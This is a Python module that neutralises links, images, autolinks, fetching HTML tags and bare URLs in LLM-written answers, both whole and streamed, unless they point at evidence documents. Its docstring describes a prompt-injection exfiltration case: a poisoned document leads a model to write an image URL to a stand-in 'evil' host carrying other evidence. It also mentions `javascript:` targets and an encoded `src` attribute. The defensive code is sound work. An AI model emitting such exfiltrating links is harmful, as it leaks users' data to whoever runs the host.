"""Links and images an LLM writes are neutralised unless they point at the evidence.

A poisoned document can talk a model into writing `![x](https://evil/?q=<other evidence>)`:
a client that renders the answer as Markdown or HTML would fetch that URL and hand the
evidence (or the question) to whoever runs it. So, in what the model writes, every
Markdown link, image, autolink, HTML tag that can fetch and bare URL whose target is not
the `uri` of a document given as evidence loses its target: a link keeps its text, an
image its alt text, a bare URL becomes `(link removed)`. A bare URL is a scheme and `//`
(or `\\\\`, `/\\`: browsers read a backslash there as a slash), `www.`, or `//` and a
dotted host, which linkify-style renderers make a link of. A target of a scheme other than
`http(s)` (`javascript:`, `data:`, `vbscript:`, in any case or disguise) is removed even
when it is a document's `uri` (`gateway/uris.py`): ingest refuses those, but one may have
been stored before it did. Markdown's less common forms count too: a destination after
spaces or on the next line, link text over two lines, and reference definitions
(`[1]: target`); there, a word that names no scheme and no other host (`see above`) stays.

HTML is never needed in an answer, but `a <b> c`, `x < y` and `List<String>` are prose or
code, so a tag stays when it can fetch nothing: it has no attribute value (no `=`, which
every URL an attribute carries needs) and is not `<a>`, `<img>` (whose closing tags go
with them), `<script>` or `<style>` (whose content a browser runs or fetches). Any other
tag goes whole. A tag not closed on its own line (or before another `<`) keeps its text
but gets a space after its `<` (`< img`), which starts no tag: a browser would run it on
to a `>` lines later, past where the stream settles, with attribute values no line alone
shows as a URL (`src=&#47;&#47;evil`).

Streamed text is neutralised the same way. No construct spans a line end, or a space
outside every bracket (each closing bracket closes only its own kind), so text is settled
up to the last such place and neutralised piece by piece: the concatenated stream equals
`neutralise` of the whole, and only the word being written (or an open bracket on the
current line) is held back.
"""

from __future__ import annotations

import re
from collections.abc import Collection

from gateway.uris import is_link_safe, link_form, scheme_of

REMOVED = "(link removed)"
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([ \t]*([^)\s]*)(?:\s+\"[^\"\n]*\")?[ \t]*\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\([ \t]*([^)\s]*)(?:\s+\"[^\"\n]*\")?[ \t]*\)")
# `[text](` or `[label]:` with the destination on the next line: links too, that no
# pattern here spans (the stream settles each line), so `]` is parted from what follows.
_SPLIT = re.compile(r"\][(:][ \t]*\n")
# A destination after `](` that `_LINK` did not take (its text began on an earlier line),
# or after `[label]:` (a definition). Neither needs its `[`: a label or link text may span
# lines, and a line's start cannot be told from a streamed piece's.
# A target holds no bracket but its own `<...>`: the stream's bracket count must agree.
_DESTINATION = re.compile(r"(\]\([ \t]*|\]:[ \t]*)(<[^\s<>]*>|[^\s()<>\[\]]+)")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^>\s]*)>")
# An HTML tag up to its `>` on the same line; one that meets a line's end or another `<`
# first is open (a browser's tag would take in what follows, a URL taken out included).
_TAG = re.compile(r"</?([A-Za-z][A-Za-z0-9]*)([^<>\n]*)(>?)")
_ALWAYS_REMOVED = frozenset({"a", "img", "script", "style"})
# The scheme two letters or more, so that a drive's `C:\\` stays; `//` after no word,
# colon or slash, as linkify reads it.
_BARE = re.compile(
    r"(?:\b[A-Za-z][A-Za-z0-9+.-]+:[/\\]{2}|\bwww\.|(?<![\w:/\\])//(?=[^\s<>()\[\]/]*\.))"
    r"[^\s<>()\[\]]+"
)
_OPENER = {"]": "[", ")": "(", ">": "<"}  # each closing bracket, and the one it closes


def neutralise(text: str, allowed: Collection[str]) -> str:
    """`text` with every link target not in `allowed` (or not `http(s)` or relative)
    removed."""
    allowed = {uri for uri in allowed if is_link_safe(uri)}

    def image(m: re.Match[str]) -> str:
        return m.group(0) if m.group(2) in allowed else m.group(1)

    def link(m: re.Match[str]) -> str:
        return m.group(0) if m.group(2) in allowed else m.group(1)

    def autolink(m: re.Match[str]) -> str:
        return m.group(0) if m.group(1) in allowed else REMOVED

    def bare(m: re.Match[str]) -> str:
        return m.group(0) if m.group(0) in allowed else REMOVED

    def tag(m: re.Match[str]) -> str:
        name, rest, closed = m.groups()
        if not closed:  # a browser's tag would run on past what we see: let none start
            return "< " + m.group(0)[1:]
        if _AUTOLINK.fullmatch(m.group(0)):  # one to the evidence: `autolink` took the rest
            return m.group(0)
        return "" if "=" in rest or name.lower() in _ALWAYS_REMOVED else m.group(0)

    def destination(m: re.Match[str]) -> str:
        target = m.group(2)
        if target in allowed or not _followed(target):
            return m.group(0)
        return m.group(1) + (REMOVED if m.group(1).startswith("]:") else "")

    # Until nothing changes: what a removal leaves may join into a new link, as
    # `[b][](x)(javascript:y)` becomes `[b](javascript:y)` once `[](x)` goes.
    before = None
    while text != before:
        before = text
        text = _SPLIT.sub(lambda m: "] " + m.group(0)[1:], text)
        text = _DESTINATION.sub(destination, text)
        text = _IMAGE.sub(image, text)
        text = _LINK.sub(link, text)
        text = _AUTOLINK.sub(autolink, text)
        text = _TAG.sub(tag, text)
    # What is left of a link is an allowed link, which keeps its target; any other URL goes.
    kept = [m.span() for m in _LINK.finditer(text)] + [m.span() for m in _IMAGE.finditer(text)]
    return _BARE.sub(lambda m: m.group(0) if _inside(m.start(), kept) else bare(m), text)


def _followed(target: str) -> bool:
    """Whether a word in a destination's place would be followed somewhere: it names a
    scheme, or another host (`//host`, which browsers also read from `/\\host`)."""
    form = link_form(target.strip("<>")).replace("\\", "/")
    return scheme_of(form) is not None or form.startswith("//")


def _inside(position: int, spans: list[tuple[int, int]]) -> bool:
    return any(start <= position < end for start, end in spans)


class StreamNeutraliser:
    """`neutralise` for text that arrives in pieces: `feed` returns what is settled."""

    def __init__(self, allowed: Collection[str]) -> None:
        self._allowed = allowed
        self._raw = ""
        self._settled = 0  # raw[:settled] has been neutralised and returned
        self._scanned = 0  # raw[:scanned] has been scanned for brackets
        self._open: list[str] = []  # brackets open on the current line, innermost last
        # Whether the current line has a `]:`: a destination may follow it after spaces,
        # and what a removal leaves between them, so the line settles whole, at its end.
        self._definition = False

    def feed(self, piece: str) -> str:
        self._raw += piece
        cut = self._settled
        for i in range(self._scanned, len(self._raw)):
            char = self._raw[i]
            if char in "[(<":
                self._open.append(char)
            elif char in _OPENER:
                # Only the bracket it closes: in `<a href=') >` the `)` leaves the tag open.
                if self._open and self._open[-1] == _OPENER[char]:
                    self._open.pop()
            elif char == ":" and self._raw[i - 1 : i] == "]":
                self._definition = True
            elif char == "\n" or (char.isspace() and not self._open and not self._definition):
                self._open.clear()  # no construct spans a line: an unclosed bracket ends here
                self._definition = self._definition and char != "\n"
                cut = i + 1
        self._scanned = len(self._raw)
        return self._take(cut)

    def finish(self) -> str:
        return self._take(len(self._raw))

    def _take(self, cut: int) -> str:
        out = neutralise(self._raw[self._settled : cut], self._allowed)
        self._settled = max(self._settled, cut)
        return out
